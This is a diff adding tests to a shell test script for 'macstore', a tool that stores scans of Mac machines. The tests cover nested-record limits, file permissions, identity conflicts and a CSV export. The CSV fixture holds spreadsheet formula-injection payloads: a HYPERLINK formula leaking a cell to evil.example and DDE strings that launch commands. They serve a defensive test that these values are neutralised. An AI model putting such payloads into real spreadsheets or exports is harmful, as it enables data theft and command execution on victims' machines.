@@ -13,7 +13,7 @@ fixtures=$top/tests/fixtures/old
 usage=$(cat <<'EOF'
 usage: macstore [-qv] [-d dir] [-k keep] [-T time] add
        macstore [-qv] [-d dir] [-k keep] import file ...
-       macstore [-aqtv] [-d dir] latest
+       macstore [-acqtv] [-d dir] latest
        macstore [-qtv] [-d dir] list
        macstore [-qv] [-d dir] [-k keep] prune
        macstore [-qtv] [-d dir] history id
@@ -315,6 +315,116 @@ check_eq "import of a file that is not an array: exit 1" 1 \
     "$(status macstore -d "$I" import "$T/bad.json" 2> "$T/err")"
 check_eq "import of a file that is not an array: message" \
     "macstore: $T/bad.json: not a JSON array of machines" "$(cat "$T/err")"
+
+# ---- one bad record is refused alone; the store is never emptied ---------
+D=$T/deep
+printf '{"serial":"G1","ip":"10.0.0.1","disk_free_bytes":5000000000}\n' |
+    macstore -d "$D" -T 2026-11-24T08:00:00Z add
+deep=$(awk 'BEGIN { s = "{\"serial\":\"D1\",\"x\":"
+	for (i = 0; i < 598; i++) s = s "{\"x\":"
+	s = s "{}"
+	for (i = 0; i < 598; i++) s = s "}"
+	print s "}" }')
+check_eq "the deep record is nested 600 deep" 600 \
+    "$(printf '%s' "$deep" | tr -cd '{' | wc -c)"
+printf '%s\n%s\n%s\n' '{"serial":"G2","ip":"10.0.0.2"}' "$deep" \
+    '{"serial":"G3","ip":"10.0.0.3"}' > "$T/deep.in"
+check_eq "a record nested 600 deep among good ones: exit 1" 1 \
+    "$(status macstore -d "$D" -T 2026-11-24T08:10:00Z add < "$T/deep.in" 2> "$T/err")"
+check_eq "the deep record is refused alone, named by its line" \
+    "macstore: <stdin>:2: nested more than 64 deep
+macstore: 1 bad line not stored" "$(cat "$T/err")"
+check_eq "the other records are stored and read" "G1 G2 G3" \
+    "$(macstore -d "$D" latest | jq -r .id | tr '\n' ' ' | sed 's/ $//')"
+for i in 1 2 3 4 5; do
+	printf '%s\n' "$deep" |
+	    macstore -q -d "$D" -k 2 -T "2026-11-24T09:0$i:00Z" add 2>/dev/null || true
+done
+check_eq "five adds of a deep record alone: nothing stored, nothing pruned" \
+    "machines-20261124T080000Z.json machines-20261124T081000Z.json" \
+    "$(macstore -d "$D" list | cut -f 1 | tr '\n' ' ' | sed 's/ $//')"
+check_eq "five adds of a deep record alone: the view is whole" \
+    "G1 G2 G3" \
+    "$(macstore -d "$D" latest | jq -r .id | tr '\n' ' ' | sed 's/ $//')"
+U=$T/unreadable
+mkdir -p "$U/snapshots"
+printf '[\n{"id"' > "$U/snapshots/machines-20261124T080000Z.json"
+check_eq "latest when no snapshot can be read: exit 3" 3 \
+    "$(status sh -c 'macstore -d "$1" latest > "$2" 2> "$3"' sh "$U" "$T/out" "$T/err")"
+check_eq "latest when no snapshot can be read: nothing on stdout" "" \
+    "$(cat "$T/out")"
+check_eq "latest when no snapshot can be read: says so" \
+    "macstore: $U: 1 snapshot, none readable" "$(tail -n 1 "$T/err")"
+
+# ---- the files follow the umask ---------------------------------------------
+for m in 077 022; do
+	M=$T/umask$m
+	(umask "$m" && printf '{"serial":"S1"}\n{"serial":"S2"}\n' |
+	    macstore -d "$M" -T 2026-11-24T08:00:00Z add &&
+	    printf '{"serial":"S1"}\n' |
+	    macstore -d "$M" -T 2026-11-24T08:10:00Z add)
+	if [ "$m" = 077 ]; then d=700 f=600; else d=755 f=644; fi
+	check_eq "umask $m: directories $d, files $f" \
+	    "$d . $d snapshots $f history.ndjson $f lock $f snapshots/machines-20261124T080000Z.json $f snapshots/machines-20261124T081000Z.json" \
+	    "$(cd "$M" && stat -c '%a %n' . snapshots history.ndjson lock snapshots/machines-*.json | tr '\n' ' ' | sed 's/ $//')"
+done
+
+# ---- identity: failed probes, private addresses, two Macs, one serial ---------
+ID=$T/ident
+idf=$top/tests/fixtures/identity
+for n in 1 2 3; do
+	status macstore -d "$ID" -T "2026-11-24T08:${n}0:00Z" add \
+	    < "$idf/scan$n.ndjson" > /dev/null 2> "$T/id$n.err"
+	macstore -d "$ID" latest > "$T/id$n.latest"
+	check_eq "identity, scan $n: the merged view" "$(cat "$idf/latest$n.json")" \
+	    "$(jq -c '{id, identity_conflict, online, probe, ip}' "$T/id$n.latest")"
+done
+check_eq "identity: the same Mac through two ports is one machine" \
+    "macstore: <stdin>:2: same id FVFGK0AAQ6L4 as line 1: keeping this one" \
+    "$(cat "$T/id1.err")"
+check_eq "identity: two Macs claiming one serial are said" \
+    "macstore: 2 machines claim the serial D2FQ7WX3L1: kept apart, flagged identity_conflict" \
+    "$(cat "$T/id2.err")"
+check_eq "identity: the victim's full disk is in the view, beside the other Mac" \
+    "D2FQ7WX3L1 1500000000 D2FQ7WX3L1@F0E1D2C3-B4A5-5968-8776-655443322110 900000000000" \
+    "$(jq -r 'select(.id | startswith("D2FQ")) | "\(.id) \(.disk_free_bytes)"' "$T/id2.latest" | tr '\n' ' ' | sed 's/ $//')"
+check_eq "identity: the failed probe goes on the Mac's history" \
+    "2026-11-24T08:10:00Z true 2026-11-24T08:20:00Z true 2026-11-24T08:30:00Z true" \
+    "$(macstore -d "$ID" history FVFGK0AAQ6L4 | jq -r '"\(.t) \(.online)"' | tr '\n' ' ' | sed 's/ $//')"
+check_eq "identity: the state outlives retention (identity.json)" \
+    "D2FQ7WX3L1 D2FQ7WX3L1@F0E1D2C3-B4A5-5968-8776-655443322110 FVFGK0AAQ6L4" \
+    "$(jq -r '.machines | keys | join(" ")' "$ID/identity.json")"
+
+# ---- latest -c: CSV for spreadsheets, formulas neutralised ------------------
+C=$T/csv
+cat > "$T/hostile.ndjson" <<'EOF'
+{"serial":"H1","ip":"198.18.0.10","computer_name":"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")","disk_free_bytes":15000000000,"battery_percent":0,"ac_power":true}
+{"serial":"H2","ip":"198.18.0.11","computer_name":"+cmd|' /C calc'!A0","hostname":"h2.local"}
+{"serial":"H3","ip":"198.18.0.12","computer_name":"@SUM(1+1)*cmd|' /C calc'!A0","console_user":"-2+3"}
+{"serial":"H4","ip":"198.18.0.13","computer_name":"\t=1+1","model":"MacBookPro18,3"}
+{"serial":"H5","ip":"198.18.0.14","computer_name":"\r=1+1","os_version":"14.4.1"}
+{"serial":"H6","ip":"198.18.0.15","computer_name":"Alice \"the\" Mac, 2nd floor","hw_macs":["3c:22:fb:40:00:01","3c:22:fb:40:10:01"]}
+{"serial":"H7","ip":"198.18.0.16","computer_name":"line one\nline two\r\nthree","rtt_ms":1.25}
+{"serial":"H8","ip":"198.18.0.17","computer_name":"evil\u202ecod.exe","hostname":"=1+1"}
+{"serial":"=H9","ip":"198.18.0.18","probe":"ok","probe_incomplete":["backup","=updates"]}
+{"mac":"3c:22:fb:00:00:0a","ip":"198.18.0.19","probe":"auth_failed","probe_error":"-authentication failed"}
+EOF
+macstore -d "$C" -T 2026-11-24T08:00:00Z add < "$T/hostile.ndjson"
+macstore -d "$C" latest -c > "$T/latest.csv"
+macstore -d "$C" latest > "$T/latest.json"
+check "latest -c: Python's csv reads what latest says, cell for cell" \
+    python3 "$top/tests/cli/csv_check.py" "$T/latest.csv" "$T/latest.json" \
+    "$top/tests/fixtures/csv/record.csv"
+check_eq "latest -c: one header row, then one row per machine" 11 \
+    "$(python3 -c 'import csv, sys; print(len(list(csv.reader(open(sys.argv[1], newline="")))))' "$T/latest.csv")"
+check_eq "latest -c: a name that is a formula is text" \
+    "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" \
+    "$(python3 -c 'import csv, sys; print([r[1] for r in csv.reader(open(sys.argv[1], newline="")) if r[0] == "H1"][0])' "$T/latest.csv")"
+check_eq "latest -c of an empty store: the header alone" \
+    "$(head -n 1 "$top/tests/fixtures/csv/record.csv")" \
+    "$(macstore -d "$T/empty" latest -c)"
+check_eq "latest -c with -a or -t: exit 2" "2 2 2" \
+    "$(status macstore -d "$C" -ac latest 2>/dev/null) $(status macstore -d "$C" -ct latest 2>/dev/null) $(status macstore -d "$C" -c list 2>/dev/null)"
 
 # ---- a read-only store -------------------------------------------------------
 R=$T/ro
